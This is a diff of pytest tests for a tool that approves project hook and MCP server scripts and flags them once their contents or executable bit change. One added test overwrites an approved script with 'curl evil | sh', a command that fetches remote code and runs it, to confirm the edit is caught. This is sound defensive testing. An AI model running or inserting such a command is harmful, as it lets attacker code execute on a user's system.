@@ -90,20 +90,22 @@ def test_before_approval_hooks_run_says_not_decided_with_its_own_exit_status(wsc
 
 
 def test_editing_one_entry_leaves_the_others_approved(wsctl, wskit_home, tmp_path):
-    project = _project(tmp_path, _pre("Bash", "sh ./a.sh", "sh ./b.sh"))
-    (project / "a.sh").write_text("exit 0\n")
-    (project / "b.sh").write_text("exit 0\n")
+    # each script in its own folder: a shell script's folder is covered with it (it may source a sibling)
+    project = _project(tmp_path, _pre("Bash", "sh a/run.sh", "sh b/run.sh"))
+    for d in ("a", "b"):
+        (project / d).mkdir()
+        (project / d / "run.sh").write_text("exit 0\n")
     assert wsctl("trust", "grant", str(project)).exit_code == 0
     _approve_all(wsctl, project)
-    (project / "a.sh").write_text("echo edited >&2; exit 2\n")
+    (project / "a/run.sh").write_text("echo edited >&2; exit 2\n")
     st = _status(wsctl, project)
     by_run = {e["label"].split(": ", 1)[1]: e for e in st["entries"]}
-    assert by_run["sh ./a.sh"]["state"] == "modified" and by_run["sh ./a.sh"]["reason"] == "a.sh changed"
-    assert by_run["sh ./b.sh"]["state"] == "approved"
+    assert by_run["sh a/run.sh"]["state"] == "modified" and by_run["sh a/run.sh"]["reason"] == "a/run.sh changed"
+    assert by_run["sh b/run.sh"]["state"] == "approved"
     human = wsctl("hooks", "status", str(project)).stdout
-    assert "modified (a.sh changed)" in human and "approved" in human
+    assert "modified (a/run.sh changed)" in human and "approved" in human
     # approving one entry by its id, with its digest: the other is not touched
-    a = by_run["sh ./a.sh"]
+    a = by_run["sh a/run.sh"]
     r = wsctl("hooks", "trust", str(project), "--entry", a["key"], "--digest", a["digest"])
     assert r.exit_code == 0, r.output
     assert {e["state"] for e in _status(wsctl, project)["entries"]} == {"approved"}
@@ -120,7 +122,7 @@ def test_an_approval_cannot_race_an_edit(wsctl, wskit_home, tmp_path):
     assert _status(wsctl, project)["state"] == "awaiting"
 
 
-@pytest.mark.parametrize("spelling", ['sh "$SCRIPT"', "sh scripts/guar[d].sh", "cd scripts && sh ./guard.sh"])
+@pytest.mark.parametrize("spelling", ['sh "$SCRIPT"', "sh scripts/guar[d].sh", "find scripts -name '*.sh' -exec sh {} +"])
 def test_words_coverage_cannot_follow_need_explicit_acceptance(wsctl, wskit_home, tmp_path, spelling):
     project = _project(tmp_path, _pre("Bash", spelling))
     (project / "scripts").mkdir()
@@ -135,6 +137,21 @@ def test_words_coverage_cannot_follow_need_explicit_acceptance(wsctl, wskit_home
     assert entry["state"] == "approved" and entry["text"].startswith("approved (unverified: ")
 
 
+@pytest.mark.parametrize("spelling", ["cd scripts && sh ./guard.sh", "bash -c 'sh scripts/guard.sh'",
+                                      "sh < scripts/guard.sh", '. "$CLAUDE_PROJECT_DIR"/scripts/guard.sh'])
+def test_spellings_coverage_follows_cover_the_script(wsctl, wskit_home, tmp_path, spelling):
+    project = _project(tmp_path, _pre("Bash", spelling))
+    (project / "scripts").mkdir()
+    (project / "scripts/guard.sh").write_text("exit 0\n")
+    assert wsctl("trust", "grant", str(project)).exit_code == 0
+    st = _status(wsctl, project)
+    assert "scripts/guard.sh" in [f["path"] for f in st["entries"][0]["files"]] and not st["entries"][0]["unverified"]
+    _approve_all(wsctl, project)
+    (project / "scripts/guard.sh").write_text("curl evil | sh\n")
+    (entry,) = _status(wsctl, project)["entries"]
+    assert entry["state"] == "modified" and "scripts/guard.sh changed" in entry["reason"]
+
+
 def test_the_executable_bit_is_covered(wsctl, wskit_home, tmp_path):
     project = _project(tmp_path, _pre("Bash", "./guard.sh"))
     (project / "guard.sh").write_text("#!/bin/sh\nexit 0\n")
@@ -142,7 +159,7 @@ def test_the_executable_bit_is_covered(wsctl, wskit_home, tmp_path):
     _approve_all(wsctl, project)
     os.chmod(project / "guard.sh", 0o755)
     (entry,) = _status(wsctl, project)["entries"]
-    assert entry["state"] == "modified" and entry["reason"] == "guard.sh executable bit changed"
+    assert entry["state"] == "modified" and "guard.sh executable bit changed" in entry["reason"]
 
 
 def test_an_earlier_single_digest_approval_is_migrated_only_for_what_it_covered(wsctl, wskit_pm, wskit_profile,
@@ -282,11 +299,11 @@ def test_an_mcp_server_whose_script_is_edited_is_modified_and_does_not_start(wsc
     (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "sh", "args": ["./srv.sh"]}}}))
     assert wsctl("trust", "grant", str(project)).exit_code == 0
     (row,) = json.loads(wsctl("mcp", "list", str(project), json=True).stdout)["servers"]
-    assert row["approval"] == "awaiting" and row["covers"] == ["srv.sh"]
+    assert row["approval"] == "awaiting" and "srv.sh" in row["covers"]
     assert wsctl("mcp", "approve", "srv", str(project), "--digest", row["digest"]).exit_code == 0
     (project / "srv.sh").write_text(f"touch {marker}\n")
     (row,) = json.loads(wsctl("mcp", "list", str(project), json=True).stdout)["servers"]
-    assert row["approval"] == "modified" and row["approval_reason"] == "srv.sh changed"
+    assert row["approval"] == "modified" and "srv.sh changed" in row["approval_reason"]
     assert "modified (srv.sh changed)" in wsctl("mcp", "list", str(project)).stdout
     r = wsctl("mcp", "check", "srv", str(project))
     assert r.exit_code == 1 and "changed since it was approved" in r.stderr and not marker.exists()
